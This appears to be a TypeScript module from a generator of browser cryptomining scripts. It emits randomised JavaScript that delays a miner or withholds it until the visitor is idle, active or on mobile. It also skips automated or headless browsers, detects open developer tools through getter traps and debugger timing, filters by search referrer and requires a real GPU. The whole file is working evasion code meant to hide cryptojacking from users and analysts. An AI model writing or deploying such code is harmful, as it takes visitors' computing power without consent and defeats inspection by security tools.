import type { Random } from '../random.ts'
import { quoteSingle } from '../text/script.ts'

/** When a miner begins, and how much it takes. */
export type Hiding =
  | 'none'
  | 'throttled'
  | 'one-thread'
  | 'slow-start'
  | 'starts-late'
  | 'on-input'
  | 'when-idle'
  | 'when-visible'
  | 'no-automation'
  | 'mobile-only'
  | 'devtools-closed'
  | 'by-referrer'
  | 'by-referrer-at-server'
  | 'second-visit'
  | 'real-gpu-only'

/** Template of `$when($go)`. */
export function whenTemplate(hiding: Hiding, random: Random): string {
  switch (hiding) {
    case 'none':
    case 'throttled':
    case 'one-thread':
    case 'by-referrer-at-server':
      return `function $when($go){$go();}`
    case 'slow-start':
      return `function $when($go){setTimeout($go,${random.int(1500, 2800)});}`
    case 'starts-late':
      return `function $when($go){setTimeout($go,${random.int(600, 1800) * 1000});}`
    case 'on-input':
      return `
function $when($go){
  var $seen=false;
  function $once(){if(!$seen){$seen=true;$go();}}
  ['mousemove','scroll','keydown','touchstart','pointerdown'].forEach(function($n){window.addEventListener($n,$once,{passive:true});});
}`
    case 'when-idle':
      // No input for a while, and the browser has nothing else to do.
      return `
function $when($go){
  var $last=Date.now(),$started=false;
  ['mousemove','scroll','keydown','touchstart'].forEach(function($n){window.addEventListener($n,function(){$last=Date.now();},{passive:true});});
  (function $look(){if($started){return;}if(Date.now()-$last>${random.int(900, 1500)}){$started=true;requestIdleCallback(function(){$go();});}else{setTimeout($look,200);}})();
}`
    case 'when-visible':
      return `
function $when($go){
  var $started=false;
  function $look(){if(!$started&&document.visibilityState==='visible'&&!document.hidden){$started=true;$go();}}
  document.addEventListener('visibilitychange',$look);
  $look();
}`
    case 'no-automation':
      return `
function $when($go){
  function $robot(){
    var $n=navigator;
    if($n.webdriver){return true;}
    if($n.userAgent.indexOf('Headless')>=0){return true;}
    if(!window.chrome){return true;}
    if(!$n.languages||$n.languages.length===0){return true;}
    if(!$n.plugins||$n.plugins.length===0){return true;}
    if(!window.outerWidth||!window.outerHeight){return true;}
    if(window['__nightmare']||window['callPhantom']||window['_phantom']||document['$cdc_']){return true;}
    return false;
  }
  setTimeout(function(){if(!$robot()){$go();}},${random.int(200, 900)});
}`
    case 'devtools-closed':
      // What pages look for: bars of a docked panel, an object that somebody describes, a statement at which somebody stops.
      return `
function $when($go){
  function $watched(){
    var $seen=false,$bait=document.createElement('div'),$f=function(){},$r=new RegExp('x'),$d=new Date(),$t;
    if(window.outerWidth-window.innerWidth>200||window.outerHeight-window.innerHeight>240){return true;}
    function $tell(){$seen=true;return '';}
    Object.defineProperty($bait,'id',{get:$tell});
    $f.toString=$tell;
    $r.toString=$tell;
    $d.toString=$tell;
    console.log('%c',$bait);
    console.debug($f);
    console.log($r,$d);
    console.dir($bait);
    console.table([$bait]);
    $t=performance.now();
    debugger;
    return $seen||performance.now()-$t>1000;
  }
  (function $look($left){if(!$watched()){if($left===0){$go();}else{setTimeout(function(){$look($left-1);},${random.int(200, 500)});}}})(2);
}`
    case 'by-referrer':
      return `function $when($go){if(new RegExp(${quoteSingle(random.pick(['google|bing|duckduckgo', 'search|google', '[.]google[.]']))}).test(document.referrer)){$go();}}`
    case 'real-gpu-only':
      // A software adapter is one that would not pay, or somebody who looks.
      return `
function $when($go){
  if(!navigator.gpu){return;}
  navigator.gpu.requestAdapter().then(function($a){if($a&&!(($a.info&&$a.info.isFallbackAdapter)||$a.isFallbackAdapter)){$go();}});
}`
    case 'second-visit':
      // The service worker begins when it sees the next navigation; the page starts nothing.
      return `function $when(){}`
    case 'mobile-only':
      return `function $when($go){if(navigator.maxTouchPoints>0&&new RegExp('Android|iPhone|Mobile').test(navigator.userAgent)){$go();}}`
  }
}
